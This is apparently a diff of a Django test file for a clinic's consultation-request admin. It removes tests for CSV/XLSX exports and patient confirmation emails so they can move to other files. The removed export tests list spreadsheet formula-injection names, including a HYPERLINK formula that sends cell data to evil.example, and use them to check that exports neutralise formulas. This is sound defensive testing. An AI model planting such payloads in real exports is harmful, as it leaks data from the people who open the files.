@@ -1,25 +1,17 @@
-"""The front desk's admin for consultation requests: list, filters, search, detail, edit, export,
-badge and dashboard panel, report, and the scheduling confirmation."""
+"""The front desk's admin for consultation requests: list, filters, search, detail, edit, badge and
+dashboard panel, report and audit log. Exports are in test_request_exports.py, the scheduling
+confirmation in test_confirmation_mail.py."""
 
-import csv
 import datetime
-import io
 
 import pytest
 from bs4 import BeautifulSoup
-from django.core import mail
-from django.core.mail.backends.base import BaseEmailBackend
 from django.db import connection
-from django.test import Client, override_settings
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
-from django_tasks_db.models import DBTaskResult
-from openpyxl import load_workbook
 
-from booking.confirmations import send_confirmation
 from booking.models import ConsultationRequest, RequestAuditEntry
-from booking.tasks import MailDeferred
 from tests import factories
 from tests.factories import PATIENT_NAME, make_request
 
@@ -27,12 +19,6 @@ pytestmark = pytest.mark.django_db
 
 INDEX = "consultationrequest:index"
 Action = RequestAuditEntry.Action
-
-
-@pytest.fixture
-def desk_client(client, front_desk):
-    factories.sign_in(client, front_desk)
-    return client
 
 
 def index_url(query=""):
@@ -261,76 +247,6 @@ def test_manager_deletes_a_request_and_the_audit_entry_remains(client):
     assert (entry.user, entry.request_id_ref) == (manager, request_id)
 
 
-# Export
-
-NASTY_NAMES = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
-    "+SUM(1)",
-    "-2+3",
-    "@cmd",
-    "  =1+1",
-    "\tTabbed",
-    "\rCarriage",
-    "\uff1d1+1",
-]
-
-
-def make_export_rows():
-    nasty = [make_request(name=name, status="contacted") for name in NASTY_NAMES]
-    other = make_request(name="Not Exported", status="closed")
-    return nasty, other
-
-
-def test_csv_export_has_only_the_filtered_rows_and_neutralises_formulas(desk_client, front_desk):
-    nasty, other = make_export_rows()
-
-    response = desk_client.get(index_url("?status=contacted&export=csv"))
-
-    assert response.status_code == 200
-    assert response["Content-Disposition"] == 'attachment; filename="consultation-requests.csv"'
-    rows = list(csv.DictReader(io.StringIO(download(response).decode())))
-    assert {row["Reference"] for row in rows} == {request.reference for request in nasty}
-    assert "Not Exported" not in download(response).decode()
-    assert {row["Name"] for row in rows} == {"'" + name for name in NASTY_NAMES}
-    assert {row["Phone"] for row in rows} == {"'+15550102030"}
-    assert {row["Status"] for row in rows} == {"Contacted"}
-    # The patient's own words and the staff's notes stay out of the file.
-    assert "Symptoms" not in rows[0] and "Stiff neck" not in download(response).decode()
-
-    entries = audit_entries(Action.EXPORT)
-    assert {entry.request_id_ref for entry in entries} == {request.pk for request in nasty}
-    assert {entry.detail for entry in entries} == {"CSV export of 8 rows; filtered by status"}
-    assert all(entry.user == front_desk for entry in entries)
-
-
-def test_xlsx_export_has_only_the_filtered_rows_and_neutralises_formulas(desk_client):
-    nasty, other = make_export_rows()
-
-    response = desk_client.get(index_url("?status=contacted&q=%2B&export=xlsx"))
-    assert response.status_code == 200
-    workbook = load_workbook(io.BytesIO(download(response)))
-    sheet = workbook.active
-    header = [cell.value for cell in sheet[1]]
-    name_column = header.index("Name")
-    rows = list(sheet.iter_rows(min_row=2))
-
-    assert {row[0].value for row in rows} == {request.reference for request in nasty}
-    # XML reads a carriage return back as a line feed; what matters is the leading quote.
-    expected = {"'" + name.replace("\r", "\n") for name in NASTY_NAMES}
-    assert {row[name_column].value for row in rows} == expected
-    assert all(row[name_column].data_type == "s" for row in rows)
-    assert not any(cell.data_type == "f" for row in rows for cell in row)
-    [detail] = {entry.detail for entry in audit_entries(Action.EXPORT)}
-    assert detail == "XLSX export of 8 rows; filtered by status; with a search"
-
-
-def test_export_of_an_empty_list_is_still_audited(desk_client):
-    response = desk_client.get(index_url("?status=closed&export=csv"))
-    assert response.status_code == 200
-    [entry] = audit_entries(Action.EXPORT)
-    assert entry.request_id_ref is None and entry.detail == "CSV export of 0 rows; filtered by status"
-
-
 # Badge and dashboard
 
 
@@ -442,140 +358,6 @@ def test_list_query_count_does_not_grow_with_rows(desk_client, front_desk):
 
     assert ConsultationRequest.objects.count() == 10
     assert one == ten
-
-
-# Scheduling confirmation
-
-
-def scheduled_request(**fields):
-    fields.setdefault("scheduled_for", local(2026, 3, 3, 10))
-    return make_request(
-        status="scheduled",
-        condition_label="Migraine with aura",
-        symptoms="Flashing lights before the headache.",
-        internal_notes="Nervous about needles.",
-        **fields,
-    )
-
-
-def test_confirmation_button_queues_the_task_after_commit(
-    desk_client, front_desk, django_capture_on_commit_callbacks
-):
-    consultation_request = scheduled_request()
-    inspect_url = reverse("consultationrequest:inspect", args=[consultation_request.pk])
-    page = BeautifulSoup(desk_client.get(inspect_url).content, "html.parser")
-    form = page.select_one(
-        f"form[action='{reverse('consultationrequest:confirm', args=[consultation_request.pk])}']"
-    )
-    assert form is not None and form["method"] == "post"
-    assert form.select_one("input[name=csrfmiddlewaretoken]")
-    assert "Send confirmation to patient" in form.get_text()
-
-    with django_capture_on_commit_callbacks(execute=True) as callbacks:
-        response = desk_client.post(form["action"], {"next": inspect_url})
-
-    assert response.status_code == 302 and response["Location"] == inspect_url
-    assert len(callbacks) == 1
-    [queued] = DBTaskResult.objects.filter(task_path="booking.confirmations.send_confirmation")
-    assert queued.args_kwargs["args"][0] == consultation_request.pk
-    [entry] = audit_entries(Action.CONFIRMATION)
-    assert (entry.user, entry.request_id_ref) == (front_desk, consultation_request.pk)
-    assert not mail.outbox  # nothing is sent inside the admin request
-
-
-def test_confirmation_post_needs_the_csrf_token(front_desk):
-    consultation_request = scheduled_request()
-    client = Client(enforce_csrf_checks=True)
-    factories.sign_in(client, front_desk)
-    response = client.post(reverse("consultationrequest:confirm", args=[consultation_request.pk]))
-    assert response.status_code == 403
-    assert not DBTaskResult.objects.exists()
-
-
-@pytest.mark.parametrize(
-    "fields",
-    [{"status": "contacted"}, {"scheduled_for": None}, {"email": ""}],
-    ids=["not scheduled", "no time", "no email"],
-)
-def test_confirmation_is_refused_without_status_time_and_email(desk_client, fields):
-    consultation_request = scheduled_request()
-    ConsultationRequest.objects.filter(pk=consultation_request.pk).update(**fields)
-    inspect_url = reverse("consultationrequest:inspect", args=[consultation_request.pk])
-    assert "Send confirmation to patient" not in desk_client.get(inspect_url).content.decode()
-
-    response = desk_client.post(
-        reverse("consultationrequest:confirm", args=[consultation_request.pk]), follow=True
-    )
-
-    assert "A confirmation needs the status" in response.content.decode()
-    assert not DBTaskResult.objects.exists()
-    assert not audit_entries(Action.CONFIRMATION)
-
-
-def test_running_the_task_mails_the_patient_an_ics_and_no_health_details(
-    desk_client, django_capture_on_commit_callbacks
-):
-    consultation_request = scheduled_request(patient_type="returning")
-    with django_capture_on_commit_callbacks(execute=True):
-        desk_client.post(reverse("consultationrequest:confirm", args=[consultation_request.pk]))
-    queued = DBTaskResult.objects.get()
-
-    result = queued.task.call(*queued.args_kwargs["args"], **queued.args_kwargs["kwargs"])
-
-    assert result == "sent"
-    [message] = mail.outbox
-    assert message.to == ["harriet@example.com"]
-    assert consultation_request.reference in message.subject
-    assert "Tuesday, March 3, 2026 at 10:00 AM (EST)" in message.body
-    [(filename, ics, mimetype)] = message.attachments
-    assert filename == "consultation.ics"
-    assert mimetype.startswith("text/calendar")
-    [part] = [part for part in message.message().walk() if part.get_filename() == "consultation.ics"]
-    assert part["Content-Type"] == 'text/calendar; method="PUBLISH"; charset="utf-8"'
-    assert "DTSTART:20260303T150000Z" in ics and "DTEND:20260303T154500Z" in ics  # 45 min, returning
-    everything = message.subject + message.body + ics
-    for secret in ["Migraine", "aura", "Flashing lights", "Nervous about needles", PATIENT_NAME, "Quimby"]:
-        assert secret not in everything
-    consultation_request.refresh_from_db()
-    assert consultation_request.confirmation_sent_at is not None
-    assert [entry.detail for entry in audit_entries(Action.CONFIRMATION)] == [
-        "sending requested",
-        "confirmation email sent",
-    ]
-
-    # A retry of the same task (or a double click queued before it ran) sends nothing more.
-    assert queued.task.call(*queued.args_kwargs["args"]) == "already sent"
-    assert len(mail.outbox) == 1
-
-
-def test_a_later_request_sends_again_after_a_reschedule():
-    consultation_request = scheduled_request()
-    send_confirmation.call(consultation_request.pk, timezone.now().isoformat())
-    ConsultationRequest.objects.filter(pk=consultation_request.pk).update(scheduled_for=local(2026, 3, 5, 9))
-
-    assert send_confirmation.call(consultation_request.pk, timezone.now().isoformat()) == "sent"
-
-    assert len(mail.outbox) == 2
-    assert "Thursday, March 5, 2026 at 9:00 AM" in mail.outbox[1].body
-
-
-class UnreachableMailServer(BaseEmailBackend):
-    def send_messages(self, email_messages):
-        raise ConnectionRefusedError("mail server down")
-
-
-@override_settings(WORKER_EMAIL_BACKEND="tests.test_front_desk.UnreachableMailServer")
-def test_a_mail_server_failure_queues_a_retry_and_marks_nothing_sent():
-    consultation_request = scheduled_request()
-
-    with pytest.raises(MailDeferred):
-        send_confirmation.call(consultation_request.pk, timezone.now().isoformat())
-
-    consultation_request.refresh_from_db()
-    assert consultation_request.confirmation_sent_at is None
-    [retry] = DBTaskResult.objects.all()
-    assert retry.args_kwargs["kwargs"] == {"attempt": 2}
-    assert retry.run_after > timezone.now()
 
 
 # Audit log
